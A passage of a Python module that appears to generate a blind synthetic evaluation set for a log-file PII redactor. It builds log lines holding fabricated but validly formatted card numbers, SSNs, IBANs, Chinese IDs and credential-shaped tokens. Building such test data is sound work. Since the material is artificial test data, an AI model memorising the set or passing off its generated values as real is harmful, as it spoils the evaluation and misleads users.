"""Blind synthetic evaluation set #7 for the log-file PII redactor.

Provenance
----------
Written blind on 2026-12-05.  The author did not read the redactor, its
rules, its tests, its docs, its seed data or any other evaluation set while
writing this file; every log format below was reproduced from general
knowledge of how the named software prints its logs.  Nothing here imports
the redactor or other benchmark modules.

API
---
``blind_log7(n, seed=0) -> list[dict]`` returns ``n`` records::

    {"text": str,
     "spans":  [[start, end, TYPE], ...],   # planted personal values
     "decoys": [[start, end, KIND], ...],   # non-personal look-alikes
     "template": int}                        # index into TEMPLATE_NAMES

Offsets are Python ``str`` (code point) offsets; ``text[start:end]`` is the
value exactly as printed (percent-encoded or JSON-escaped where the log
prints it that way).  Output is deterministic for a seed (``random.Random``
plus seeded Faker instances).  Templates are used round-robin over a
shuffled order; about one record in ten is rendered "clean": every planted
value is replaced by a masked placeholder (recorded as a ``masked`` decoy)
or a dash, so it carries no span.

Value generators
----------------
* PERSON: Faker first/last names from en_US, en_GB, en_IE, en_NZ, fr_CA,
  de_AT, de_CH, es_ES, es_CO, pt_BR, it_IT, sv_SE, nl_BE, ru_RU
  (transliterated to Latin), tr_TR, vi_VN, id_ID, a hand list of romanised
  Thai names, zh_CN (romanised pinyin in Western systems); zh_CN / zh_TW
  characters in Chinese lines.  Printed as "First Last", "Last, First",
  "LAST/FIRST" (airline, PMS), "LAST^FIRST" (HL7), first or surname alone,
  surname + title (title not labelled).
* PHONE_NUMBER: ``phonenumbers`` example numbers for 30 regions with random
  tails, kept only if ``is_valid_number``; printed E164, INTERNATIONAL,
  NATIONAL, digits-only; Chinese mobiles and landlines generated directly.
* EMAIL_ADDRESS: Faker emails and name-derived addresses on consumer and
  company domains (no role mailboxes).
* CREDIT_CARD: Luhn-valid 13-19 digit numbers on real issuer prefixes
  (Visa, Mastercard, Amex, Discover, JCB, Diners, UnionPay).
* CN_RESIDENT_ID: 18 characters, real area prefixes, GB 11643 check digit.
* IBAN_CODE: DE, GB, NL, IE, CH, AT, SE, BE (national check), FR (RIB key),
  ES (CCC check digits), TR, BR, PL; ISO 13616 mod-97 check digits.
* US_SSN: area 001-899 minus 666, group 01-99, serial 0001-9999.
* PASSPORT: CN (E/EA + digits), US, GB, DE, FR, IN, JP, KR, HK formats,
  only next to a word/key meaning passport.
* LICENSE_PLATE: Chinese plates, ordinary and new-energy (D/F), with and
  without the middle dot.
* IP_ADDRESS: global IPv4/IPv6 of users, clients and attackers; private
  addresses of user endpoints (VPN pool, workstation).  Server/upstream
  addresses are ``server_ip`` decoys.
* CREDENTIAL: passwords, API keys (sk_live_, ghp_, AIza, xoxb-), JWT bearer
  tokens, session cookie values, NTLM NT hashes, Kerberos TGS hashes, TOTP
  base32 secrets.

Templates (index: name)
-----------------------
Security and identity:
  0 suricata_eve_alert        1 suricata_eve_http       2 suricata_eve_dns
  3 suricata_eve_tls          4 snort_fast_alert        5 modsecurity_audit_json
  6 edr_detection_json        7 win_4624_text           8 win_4625_xml
  9 win_4740_text_enriched   10 sysmon_eid1_process    11 auditd_user_login
 12 osquery_result_json      13 okta_system_log        14 azure_ad_m365_signin
 15 ldap_bind                16 vpn_globalprotect      17 vpn_anyconnect_asa
 18 badge_door_access        19 cctv_nvr_alarm         20 siem_prose_summary
Care, travel and commerce:
 21 ehr_audit_trail          22 lis_hl7_oru            23 pharmacy_dispense
 24 appointment_reminder_sms 25 insurance_edi_837      26 hotel_pms
 27 airline_dcs_checkin      28 airline_bcbp_boarding  29 ota_booking_webhook
 30 car_rental_cn            31 ticketing_order        32 food_delivery_dispatch
 33 marketplace_dispute      34 loyalty_points         35 chat_transcript_jsonl
 36 payment_gateway_debug    37 payout_iban            38 tenant_screening_ssn
 39 guest_registration_passport
Chinese security and public service:
 40 zh_security_patrol       41 zh_gate_visitor        42 zh_cctv_alarm
 43 zh_fire_inspection       44 zh_property_workorder  45 zh_police_household_exit_entry
 46 zh_lab_report            47 zh_prescription_json   48 zh_medical_record_front
 49 zh_120_dispatch          50 zh_scenic_tour_group   51 zh_hotel_checkin
 52 zh_airline_checkin       53 zh_bank_counter_atm    54 zh_antifraud_sms
 55 zh_ecommerce_chat        56 zh_food_delivery       57 zh_parcel_station
 58 zht_hospital_registration 59 zht_guard_log_hotel
"""
import datetime
import ipaddress
import itertools
import random
import re
import string
import urllib.parse

import phonenumbers
from faker import Faker
from phonenumbers import PhoneNumberFormat as _PNF
from phonenumbers import PhoneNumberType as _PNT

TYPES = ("EMAIL_ADDRESS", "PHONE_NUMBER", "PERSON", "IP_ADDRESS", "CREDIT_CARD",
         "CN_RESIDENT_ID", "LICENSE_PLATE", "CREDENTIAL", "IBAN_CODE", "US_SSN",
         "PASSPORT")

TEMPLATE_NAMES = (
    "suricata_eve_alert", "suricata_eve_http", "suricata_eve_dns", "suricata_eve_tls",
    "snort_fast_alert", "modsecurity_audit_json", "edr_detection_json", "win_4624_text",
    "win_4625_xml", "win_4740_text_enriched", "sysmon_eid1_process", "auditd_user_login",
    "osquery_result_json", "okta_system_log", "azure_ad_m365_signin", "ldap_bind",
    "vpn_globalprotect", "vpn_anyconnect_asa", "badge_door_access", "cctv_nvr_alarm",
    "siem_prose_summary",
    "ehr_audit_trail", "lis_hl7_oru", "pharmacy_dispense", "appointment_reminder_sms",
    "insurance_edi_837", "hotel_pms", "airline_dcs_checkin", "airline_bcbp_boarding",
    "ota_booking_webhook", "car_rental_cn", "ticketing_order", "food_delivery_dispatch",
    "marketplace_dispute", "loyalty_points", "chat_transcript_jsonl", "payment_gateway_debug",
    "payout_iban", "tenant_screening_ssn", "guest_registration_passport",
    "zh_security_patrol", "zh_gate_visitor", "zh_cctv_alarm", "zh_fire_inspection",
    "zh_property_workorder", "zh_police_household_exit_entry", "zh_lab_report",
    "zh_prescription_json", "zh_medical_record_front", "zh_120_dispatch",
    "zh_scenic_tour_group", "zh_hotel_checkin", "zh_airline_checkin", "zh_bank_counter_atm",
    "zh_antifraud_sms", "zh_ecommerce_chat", "zh_food_delivery", "zh_parcel_station",
    "zht_hospital_registration", "zht_guard_log_hotel",
)

# ---------------------------------------------------------------------------
# static lists
# ---------------------------------------------------------------------------
_WEST_LOCALES = ["en_US", "en_GB", "en_IE", "en_NZ", "fr_CA", "de_AT", "de_CH", "es_ES",
                 "es_CO", "pt_BR", "it_IT", "sv_SE", "nl_BE", "ru_RU", "tr_TR", "vi_VN",
                 "id_ID", "th_TH", "zh_CN"]
_TH_FIRST = ["Somchai", "Somsak", "Siriporn", "Wanida", "Kittisak", "Nattapong", "Pimchanok",
             "Chanida", "Thanawat", "Anong", "Prasert", "Supaporn", "Kanokwan", "Apinya",
             "Worawut", "Jirapat", "Narongrit", "Ratchanee"]
_TH_LAST = ["Saetang", "Srisuk", "Wongsawat", "Chaiyaporn", "Rattanakorn", "Boonmee", "Thongdee",
            "Kaewmanee", "Phromphan", "Sukhum", "Jantarasiri", "Suwannarat", "Charoenkul"]
_RU = dict(zip("абвгдеёжзийклмнопрстуфхцчшщъыьэюя",
               ["a", "b", "v", "g", "d", "e", "e", "zh", "z", "i", "y", "k", "l", "m", "n", "o",
                "p", "r", "s", "t", "u", "f", "kh", "ts", "ch", "sh", "shch", "", "y", "", "e",
                "yu", "ya"]))
_PH_REGIONS = ["CN", "HK", "TW", "MO", "SG", "MY", "TH", "VN", "ID", "PH", "JP", "KR", "IN", "AE",
               "US", "CA", "GB", "IE", "FR", "DE", "ES", "IT", "NL", "SE", "RU", "TR", "BR", "MX",
               "AU", "NZ"]
_PERSONAL_DOMAINS = ["gmail.com", "outlook.com", "hotmail.com", "yahoo.co.uk", "icloud.com",
                     "proton.me", "gmx.de", "web.de", "orange.fr", "libero.it", "mail.ru",
                     "yandex.ru", "uol.com.br", "bluewin.ch", "telia.com", "eircom.net",
                     "xtra.co.nz", "yahoo.com.vn", "naver.com", "rediffmail.com"]
_WORK_DOMAINS = ["contoso.com", "northwind-traders.com", "fabrikam.co.uk", "acme-logistics.de",
                 "globex.io", "initech.com.au", "lumen-health.org", "blueharbor.nz",
                 "pacificrim-bank.com.sg", "helvetia-freight.ch"]
_CN_DOMAINS = ["qq.com", "163.com", "126.com", "sina.com", "foxmail.com", "139.com", "aliyun.com"]
_CN_AREAS = ["110101", "110105", "120103", "310104", "310115", "320106", "330106", "340104",
             "350203", "370202", "410105", "420106", "430104", "440106", "440305", "450103",
             "500103", "510107", "530102", "610113", "210202", "230103", "360102", "460106"]
_PROV = "京津沪渝冀豫云辽黑湘皖鲁新苏浙赣鄂桂甘晋蒙陕吉闽贵粤青藏川宁琼"
_PLATE_LET = "ABCDEFGHJKLMNPQRSTUVWXYZ"
_CARD_PREFIXES = [("453201", 16), ("455673", 16), ("492181", 16), ("476173", 13),
                  ("400837", 19), ("520082", 16), ("542418", 16), ("222300", 16),
                  ("371449", 15), ("378282", 15), ("601100", 16), ("356600", 16),
                  ("353011", 16), ("305693", 14), ("622202", 19), ("621700", 19),
                  ("625907", 16), ("622848", 19), ("436742", 16), ("518710", 16)]
_PUBLIC = ["Taylor Swift", "Elon Musk", "Sherlock Holmes", "Harry Potter", "Barack Obama",
           "Lionel Messi", "Mickey Mouse", "Hermione Granger", "Albert Einstein", "Coldplay"]
_PUBLIC_ZH = ["孙悟空", "鲁迅", "李白", "诸葛亮", "姚明", "周杰伦", "林黛玉", "屈原", "雷锋", "哪吒"]
_PLACES = ["Seattle", "London", "Dublin", "Auckland", "Montréal", "Vienna", "Zürich", "Madrid",
           "Bogotá", "São Paulo", "Milan", "Stockholm", "Antwerp", "Istanbul", "Hanoi",
           "Jakarta", "Bangkok", "Singapore", "Sydney", "Frankfurt"]
_PLACES_ZH = ["北京", "上海", "深圳", "杭州", "成都", "武汉", "西安", "南京", "广州", "重庆",
              "天津", "苏州", "厦门", "青岛", "长沙"]
_PLACES_ZHT = ["台北", "高雄", "台中", "新竹", "香港", "九龍", "澳門", "桃園"]
_UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
        "curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15"]
_WORDS = ["Summer", "Winter", "Dragon", "Sunshine", "Monkey", "Purple", "Falcon", "Maple",
          "Tiger", "Ocean", "Coffee", "Rocket", "Panda", "Harbor", "Silver", "Autumn"]
_SURI_SIGS = [
    (2024217, "ET POLICY Possible Kali Linux hostname in DHCP Request Packet", "Potential Corporate Privacy Violation"),
    (2013028, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak"),
    (2019401, "ET SCAN Suspicious inbound to mySQL port 3306", "Potentially Bad Traffic"),
    (2100498, "GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic"),
    (2031502, "ET WEB_SPECIFIC_APPS WordPress Login Bruteforce Attempt", "Attempted Administrator Privilege Gain"),
    (2034647, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain"),
    (2008578, "ET SCAN Sipvicious Scan", "Attempted Information Leak"),
    (2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak"),
]


# ---------------------------------------------------------------------------
# value validators (used by _self_check)
# ---------------------------------------------------------------------------
def _unesc(s):
    s = urllib.parse.unquote(s)
    if "\\u" in s:
        s = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), s)
    return s


def _luhn_ok(d):
    tot = 0
    for i, ch in enumerate(reversed(d)):
        x = int(ch)
        if i % 2:
            x *= 2
            if x > 9:
                x -= 9
        tot += x
    return tot % 10 == 0


def _luhn_digit(partial):
    for c in "0123456789":
        if _luhn_ok(partial + c):
            return c
    raise AssertionError


_ID_W = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]


def _cnid_check(s17):
    return "10X98765432"[sum(int(a) * b for a, b in zip(s17, _ID_W)) % 11]


def _iban_ok(s):
    s = s.replace(" ", "").upper()
    if not re.fullmatch(r"[A-Z]{2}\d{2}[A-Z0-9]{8,30}", s):
        return False
    t = s[4:] + s[:4]
    return int("".join(str(int(c, 36)) for c in t)) % 97 == 1


def _phone_ok(s):
    s = _unesc(s)
    digits = re.sub(r"[^\d+]", "", s)
    try:
        if digits.startswith("+"):
            return phonenumbers.is_valid_number(phonenumbers.parse(digits, None))
        if digits.startswith("00"):
            return phonenumbers.is_valid_number(phonenumbers.parse("+" + digits[2:], None))
        for reg in _PH_REGIONS:
            try:
                if phonenumbers.is_valid_number(phonenumbers.parse(s, reg)):
                    return True
            except phonenumbers.NumberParseException:
                pass
        return phonenumbers.is_valid_number(phonenumbers.parse("+" + digits, None))
    except phonenumbers.NumberParseException:
        return False


_PLATE_RE = re.compile("^[" + _PROV + "][A-Z][·\\s]?([A-HJ-NP-Z0-9]{5}|[DF][0-9A-HJ-NP-Z][0-9]{4}|[0-9]{5}[DF])$")


def _validate(val, typ):
    v = _unesc(val)
    if typ == "EMAIL_ADDRESS":
        if not re.fullmatch(r"[A-Za-z0-9._%+\-]+@[A-Za-z0-9\-]+(\.[A-Za-z0-9\-]+)+", v):
            return False
        return v.split("@")[0].lower() not in {"noreply", "no-reply", "support", "security",
                                               "admin", "info", "postmaster", "help"}
    if typ == "PHONE_NUMBER":
        return _phone_ok(val)
    if typ == "PERSON":
        return bool(v.strip()) and not re.search(r"\d", v) and v == v.strip()
    if typ == "IP_ADDRESS":
        try:
            ip = ipaddress.ip_address(v)
        except ValueError:
            return False
        return not (ip.is_loopback or ip.is_unspecified)
    if typ == "CREDIT_CARD":
        d = re.sub(r"[ \-]", "", v)
        return d.isdigit() and 13 <= len(d) <= 19 and _luhn_ok(d)
    if typ == "CN_RESIDENT_ID":
        return (len(v) == 18 and v[:17].isdigit() and v[17] in "0123456789X"
                and _cnid_check(v[:17]) == v[17])
    if typ == "LICENSE_PLATE":
        return bool(_PLATE_RE.match(v))
    if typ == "CREDENTIAL":
        return len(v) >= 6 and not re.search(r"\s", v)
    if typ == "IBAN_CODE":
        return _iban_ok(v)
    if typ == "US_SSN":
        m = re.fullmatch(r"(\d{3})-?(\d{2})-?(\d{4})", v)
        if not m:
            return False
        a, g, s = m.groups()
        return a not in ("000", "666") and a[0] != "9" and g != "00" and s != "0000"
    if typ == "PASSPORT":
        return bool(re.fullmatch(r"[A-Z0-9]{7,10}", v))
    return False


# ---------------------------------------------------------------------------
# line builder
# ---------------------------------------------------------------------------
_PH = re.compile(r"«(\d+)»")
_CJK = re.compile(r"[\u4e00-\u9fff]")


def _mask(val, typ, r):
    if typ == "PERSON":
        if val.startswith("\\u"):
            return "***", "masked"
        if _CJK.search(val):
            return val[0] + "*" * max(1, len(val) - 1), "masked"
        return val[0] + "***", "masked"
    if typ == "EMAIL_ADDRESS":
        sep = "%40" if "%40" in val else "@"
        loc, dom = val.split(sep, 1)
        return loc[0] + "***" + sep + dom, "masked"
    if typ == "PHONE_NUMBER":
        idx = [i for i, c in enumerate(val) if c.isdigit()]
        keep = set(idx[:3] + idx[-4:])
        return "".join(c if (not c.isdigit() or i in keep) else "*" for i, c in enumerate(val)), "masked"
    if typ == "CREDIT_CARD":
        d = re.sub(r"\D", "", val)
        return d[:4] + "*" * (len(d) - 8) + d[-4:], "masked"
    if typ == "CN_RESIDENT_ID":
        return val[:6] + "********" + val[-4:], "masked"
    if typ == "IBAN_CODE":
        c = val.replace(" ", "")
        return c[:4] + "*" * (len(c) - 8) + c[-4:], "masked"
    if typ == "US_SSN":
        return "***-**-" + val[-4:], "masked"
    if typ == "PASSPORT":
        return val[0] + "*****" + val[-2:], "masked"
    if typ == "LICENSE_PLATE":
        return val[:2] + "***" + val[-2:], "masked"
    if typ == "IP_ADDRESS":
        if r.random() < 0.3:
            return "-", None
        if ":" in val:
            return val.split(":")[0] + ":****:****", "masked"
        return ".".join(val.split(".")[:2]) + ".*.*", "masked"
    if typ == "CREDENTIAL":
        return r.choice(["********", "[REDACTED]", "******", "<hidden>"]), "masked"
    raise ValueError(typ)


class _Line:
    def __init__(self, g, clean):
        self.g = g
        self.clean = clean
        self.parts = []
        self.pos = 0
        self.spans = []
        self.decoys = []

    def _lit(self, s):
        self.parts.append(s)
        self.pos += len(s)

    def _arg(self, a):
        if isinstance(a, str):
            self._lit(a)
            return
        val, lab = a
        if lab is None:
            self._lit(val)
        elif lab in TYPES:
            if self.clean:
                m, kind = _mask(val, lab, self.g.r)
                if kind:
                    self.decoys.append([self.pos, self.pos + len(m), kind])
                self._lit(m)
            else:
                self.spans.append([self.pos, self.pos + len(val), lab])
                self._lit(val)
        else:
            self.decoys.append([self.pos, self.pos + len(val), lab])
            self._lit(val)

    def f(self, tpl, *args):
        i = 0
        for m in _PH.finditer(tpl):
            self._lit(tpl[i:m.start()])
            self._arg(args[int(m.group(1))])
            i = m.end()
        self._lit(tpl[i:])
        return self

    def text(self):
        return "".join(self.parts)


# ---------------------------------------------------------------------------
# generators
# ---------------------------------------------------------------------------
def _fold(s):
    import unicodedata
    s = s.replace("ß", "ss").replace("ı", "i").replace("đ", "d").replace("Đ", "D")
    s = s.replace("ø", "o").replace("Ø", "O").replace("ł", "l").replace("æ", "ae")
    return "".join(c for c in unicodedata.normalize("NFKD", s) if not unicodedata.combining(c))


def _translit(s):
    out = []
    for ch in s:
        lo = ch.lower()
        if lo in _RU:
            t = _RU[lo]
            out.append(t[:1].upper() + t[1:] if ch != lo else t)
        else:
            out.append(ch)
    return "".join(out)


class _Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.fk = {}
        for i, loc in enumerate(_WEST_LOCALES + ["zh_TW", "en_US"]):
            if loc in self.fk:
                continue
            f = Faker(loc)
            f.seed_instance(seed * 1000 + i)
            self.fk[loc] = f
        self.base = datetime.datetime(2026, 1, 1) + datetime.timedelta(days=self.r.randint(0, 300))

    # -- misc --------------------------------------------------------------
    def c(self, seq):
        return self.r.choice(seq)

    def digits(self, k):
        return "".join(self.r.choice(string.digits) for _ in range(k))

    def alnum(self, k, alphabet=string.ascii_letters + string.digits):
        return "".join(self.r.choice(alphabet) for _ in range(k))

    def hexs(self, k):
        return "".join(self.r.choice("0123456789abcdef") for _ in range(k))

    def dt(self):
        return self.base + datetime.timedelta(seconds=self.r.randint(0, 86400 * 60),
                                              microseconds=self.r.randint(0, 999999))

    def pct(self, s):
        return urllib.parse.quote(s, safe="")

    # -- names -------------------------------------------------------------
    def wname(self, loc=None):
        loc = loc or self.c(_WEST_LOCALES)
        if loc == "th_TH":
            return self.c(_TH_FIRST), self.c(_TH_LAST)
        if loc == "zh_CN":
            f = self.fk["zh_CN"]
            return f.first_romanized_name(), f.last_romanized_name()
        f = self.fk[loc]
        first, last = f.first_name(), f.last_name()
        if loc == "ru_RU":
            first, last = _translit(first), _translit(last)
        if loc == "vi_VN":
            return first, last
        return first, last

    def wfull(self):
        a, b = self.wname()
        return a + " " + b

    def zname(self, trad=False):
        f = self.fk["zh_TW" if trad else "zh_CN"]
        return f.last_name(), f.first_name()

    def zfull(self, trad=False):
        a, b = self.zname(trad)
        return a + b

    def title(self):
        return self.c(["先生", "女士", "警官", "医生", "师傅", "经理"])

    # -- contact -----------------------------------------------------------
    def email(self, first=None, last=None):
        r = self.r
        if first is None or r.random() < 0.25:
            for _ in range(10):
                e = self.fk[self.c(["en_US", "en_GB", "de_AT", "fr_CA", "es_ES", "it_IT"])].email()
                e = _fold(e).lower()
                if _validate(e, "EMAIL_ADDRESS"):
                    return e
        first = re.sub(r"[^a-z]", "", _fold(first or self.wname()[0]).lower()) or "user"
        last = re.sub(r"[^a-z]", "", _fold(last or self.wname()[1]).lower()) or "x"
        loc = self.c([first + "." + last, first[0] + last, first + "_" + last + self.digits(2),
                      last + first[0] + self.digits(3), first + last[0], first + "." + last + self.digits(2)])
        return loc + "@" + self.c(_PERSONAL_DOMAINS + _WORK_DOMAINS)

    def cn_email(self):
        r = self.r
        if r.random() < 0.5:
            return str(r.randint(10000, 3999999999)) + "@qq.com"
        py = _fold(self.fk["zh_CN"].last_romanized_name() + self.fk["zh_CN"].first_romanized_name()).lower()
        return py + self.c(["", self.digits(2), self.digits(4), "_" + self.digits(3)]) + "@" + self.c(_CN_DOMAINS)

    def phone(self, region=None, style=None):
        r = self.r
        region = region or self.c(_PH_REGIONS)
        if region == "CN":
            return self.cn_mobile(style)
        mob = r.random() < 0.8
        ex = phonenumbers.example_number_for_type(region, _PNT.MOBILE if mob else _PNT.FIXED_LINE) \
            or phonenumbers.example_number(region)
        nat = phonenumbers.national_significant_number(ex)
        p = ex
        for _ in range(80):
            k = min(len(nat) - 3, r.randint(4, 7))
            cand = nat[:len(nat) - k] + self.digits(k)
            q = phonenumbers.PhoneNumber(country_code=ex.country_code, national_number=int(cand),
                                         italian_leading_zero=ex.italian_leading_zero,
                                         number_of_leading_zeros=ex.number_of_leading_zeros)
            if phonenumbers.is_valid_number(q) and cand != nat:
                p = q
                break
        style = style or self.c(["e164", "intl", "intl", "national", "raw"])
        if style == "e164":
            return phonenumbers.format_number(p, _PNF.E164)
        if style == "intl":
            return phonenumbers.format_number(p, _PNF.INTERNATIONAL)
        if style == "national":
            return phonenumbers.format_number(p, _PNF.NATIONAL)
        return phonenumbers.format_number(p, _PNF.E164)[1:]

    def cn_mobile(self, style=None):
        pre = self.c(["130", "131", "132", "133", "135", "136", "137", "138", "139", "150", "151",
                      "152", "155", "157", "158", "159", "166", "176", "177", "178", "180", "181",
                      "182", "183", "185", "186", "187", "188", "189", "191", "193", "195", "198", "199"])
        for _ in range(20):
            num = pre + self.digits(8)
            if phonenumbers.is_valid_number(phonenumbers.parse(num, "CN")):
                break
        style = style or self.c(["plain", "plain", "plain", "e164", "intl", "dash", "space"])
        if style == "plain":
            return num
        if style == "e164":
            return "+86" + num
        if style == "intl":
            return f"+86 {num[:3]} {num[3:7]} {num[7:]}"
        if style == "dash":
            return f"{num[:3]}-{num[3:7]}-{num[7:]}"
        return f"{num[:3]} {num[3:7]} {num[7:]}"

    def cn_landline(self):
        for _ in range(30):
            area = self.c(["10", "21", "20", "755", "571", "28", "27", "25", "29", "23", "22", "512", "592"])
            loc = str(self.r.randint(2, 8)) + self.digits(7)
            if phonenumbers.is_valid_number(phonenumbers.parse("0" + area + loc, "CN")):
                break
        return self.c([f"0{area}-{loc}", f"(0{area}){loc}", f"0{area} {loc}",
                       f"0{area}{loc}"])

    def tw_mobile(self):
        return self.phone("TW", self.c(["national", "intl", "e164"]))

    # -- network -----------------------------------------------------------
    def ip4(self):
        while True:
            a = ipaddress.IPv4Address(self.r.getrandbits(32))
            if a.is_global and not a.is_multicast:
                return str(a)

    def ip6(self):
        pre = self.c([0x24098a00, 0x240e0388, 0x2a020c7f, 0x26001700, 0x2001ee0, 0x2a01cb00,
                      0x28041d38, 0x2406da14])
        v = (pre << 96) | self.r.getrandbits(96)
        if self.r.random() < 0.4:
            v = (pre << 96) | (self.r.getrandbits(32) << 64) | self.r.getrandbits(16)
        return str(ipaddress.IPv6Address(v))

    def ip_user(self, v6=0.15, private=0.15):
        x = self.r.random()
        if x < v6:
            return self.ip6()
        if x < v6 + private:
            return self.ip_private()
        return self.ip4()

    def ip_private(self):
        return self.c(["10.%d.%d.%d" % (self.r.randint(0, 255), self.r.randint(0, 255), self.r.randint(2, 254)),
                       "192.168.%d.%d" % (self.r.randint(0, 20), self.r.randint(2, 254)),
                       "172.%d.%d.%d" % (self.r.randint(16, 31), self.r.randint(0, 255), self.r.randint(2, 254))])

    def ip_server(self):
        if self.r.random() < 0.6:
            return "10.%d.%d.%d" % (self.r.randint(0, 30), self.r.randint(0, 255), self.r.randint(2, 60))
        return self.ip4()

    def host(self):
        return self.c(["web-prod-%02d.corp.internal", "db%02d.dc1.example.net", "app-%02d.eu-west-1.compute.internal",
                       "edge-lb-%02d", "mail%02d.contoso.com", "k8s-node-%02d"]) % self.r.randint(1, 40)

    def ws(self):
        return self.c(["WS-", "LAPTOP-", "DESKTOP-", "MBP-", "PC"]) + self.alnum(6, string.ascii_uppercase + string.digits)

    # -- identifiers -------------------------------------------------------
    def card(self, grouped=None):
        pre, ln = self.c(_CARD_PREFIXES)
        body = pre + self.digits(ln - len(pre) - 1)
        d = body + _luhn_digit(body)
        grouped = self.r.random() < 0.35 if grouped is None else grouped
        if grouped:
            sep = self.c([" ", "-"])
            if ln == 15:
                return sep.join([d[:4], d[4:10], d[10:]])
            return sep.join(d[i:i + 4] for i in range(0, ln, 4))
        return d

    def cnid(self):
        b = datetime.date(1950, 1, 1) + datetime.timedelta(days=self.r.randint(0, 20000))
        s17 = self.c(_CN_AREAS) + b.strftime("%Y%m%d") + self.digits(3)
        return s17 + _cnid_check(s17)

    def iban(self, cc=None, grouped=None):
        r = self.r
        cc = cc or self.c(["DE", "GB", "NL", "IE", "CH", "AT", "SE", "BE", "FR", "ES", "TR", "BR", "PL"])
        if cc == "DE":
            bban = self.digits(18)
        elif cc in ("GB", "IE"):
            bban = self.c(["NWBK", "BARC", "HSBC", "LOYD", "AIBK", "BOFI", "MIDL"]) + self.digits(14)
        elif cc == "NL":
            bban = self.c(["ABNA", "INGB", "RABO", "TRIO", "SNSB"]) + self.digits(10)
        elif cc == "CH":
            bban = self.digits(17)
        elif cc == "AT":
            bban = self.digits(16)
        elif cc == "SE":
            bban = self.digits(20)
        elif cc == "BE":
            f = self.digits(10)
            k = int(f) % 97 or 97
            bban = f + "%02d" % k
        elif cc == "FR":
            bank, branch, acct = self.digits(5), self.digits(5), self.digits(11)
            key = 97 - ((89 * int(bank) + 15 * int(branch) + 3 * int(acct)) % 97)
            bban = bank + branch + acct + "%02d" % key
        elif cc == "ES":
            bank, branch, acct = self.digits(4), self.digits(4), self.digits(10)
            w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]

            def cd(s):
                x = 11 - sum(int(a) * b for a, b in zip(s, w)) % 11
                return {11: 0, 10: 1}.get(x, x)
            bban = bank + branch + str(cd("00" + bank + branch)) + str(cd(acct)) + acct
        elif cc == "TR":
            bban = self.digits(5) + "0" + self.digits(16)
        elif cc == "BR":
            bban = self.digits(23) + self.c(["C", "P"]) + "1"
        else:  # PL
            bban = self.digits(24)
        t = bban + cc + "00"
        chk = 98 - int("".join(str(int(c, 36)) for c in t)) % 97
        iban = cc + "%02d" % chk + bban
        grouped = r.random() < 0.4 if grouped is None else grouped
        if grouped:
            return " ".join(iban[i:i + 4] for i in range(0, len(iban), 4))
        return iban

    def ssn(self, dashed=None):
        while True:
            a = self.r.randint(1, 899)
            if a != 666:
                break
        s = "%03d-%02d-%04d" % (a, self.r.randint(1, 99), self.r.randint(1, 9999))
        if dashed is False or (dashed is None and self.r.random() < 0.2):
            return s.replace("-", "")
        return s

    def passport(self, cc=None):
        cc = cc or self.c(["CN", "CN", "US", "GB", "DE", "FR", "IN", "JP", "KR", "HK"])
        U = string.ascii_uppercase
        if cc == "CN":
            if self.r.random() < 0.6:
                return self.c(["E", "G"]) + self.digits(8)
            return "E" + self.c("ABCDEF") + self.digits(7)
        if cc in ("US", "GB"):
            return self.c("123456789") + self.digits(8)
        if cc == "DE":
            return self.c("CFGHJK") + self.alnum(8, "CFGHJKLMNPRTVWXYZ0123456789")
        if cc == "FR":
            return self.digits(2) + self.alnum(2, U) + self.digits(5)
        if cc == "IN":
            return self.c("JKLMNPRSTUVWZ") + self.digits(7)
        if cc == "JP":
            return self.c(["TK", "TR", "MZ", "TS"]) + self.digits(7)
        if cc == "KR":
            return "M" + self.digits(8)
        return self.c("HK") + self.digits(8)

    def plate(self, sep=None):
        r = self.r
        prov = self.c(_PROV)
        city = self.c(_PLATE_LET[:12])
        x = r.random()
        if x < 0.3:
            tail = self.c("DF") + self.c(_PLATE_LET + string.digits) + self.digits(4)
        elif x < 0.37:
            tail = self.digits(5) + self.c("DF")
        else:
            n_let = self.c([0, 0, 1, 1, 2])
            chars = [self.c(string.digits) for _ in range(5)]
            for i in r.sample(range(5), n_let):
                chars[i] = self.c(_PLATE_LET)
            tail = "".join(chars)
        if sep is None:
            sep = self.c(["", "", "", "·", " "])
        return prov + city + sep + tail

    # -- credentials -------------------------------------------------------
    def password(self):
        r = self.r
        x = r.random()
        if x < 0.5:
            return self.c(_WORDS) + str(r.randint(1, 2026)) + self.c("!#$*?@_.")
        if x < 0.8:
            return self.alnum(r.randint(10, 16), string.ascii_letters + string.digits + "!#$*_-+=?.")
        return self.c(_WORDS).lower() + self.c(["@", "_", "#"]) + self.digits(r.randint(3, 6))

    def apikey(self):
        x = self.r.random()
        if x < 0.25:
            return "sk_live_" + self.alnum(24)
        if x < 0.45:
            return "ghp_" + self.alnum(36)
        if x < 0.65:
            return "AIza" + self.alnum(35, string.ascii_letters + string.digits + "-_")
        if x < 0.8:
            return f"xoxb-{self.digits(12)}-{self.digits(13)}-{self.alnum(24)}"
        return self.alnum(40, string.ascii_letters + string.digits + "+/")

    def jwt(self):
        import base64
        import json
        hdr = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').rstrip(b"=").decode()
        pl = json.dumps({"sub": self.digits(8), "iat": 1767225600 + self.r.randint(0, 9999999),
                         "scope": "read write"}, separators=(",", ":")).encode()
        return hdr + "." + base64.urlsafe_b64encode(pl).rstrip(b"=").decode() + "." + \
            self.alnum(43, string.ascii_letters + string.digits + "-_")

    def cookie(self):
        return self.c([self.hexs(32), self.alnum(26, string.ascii_lowercase + string.digits),
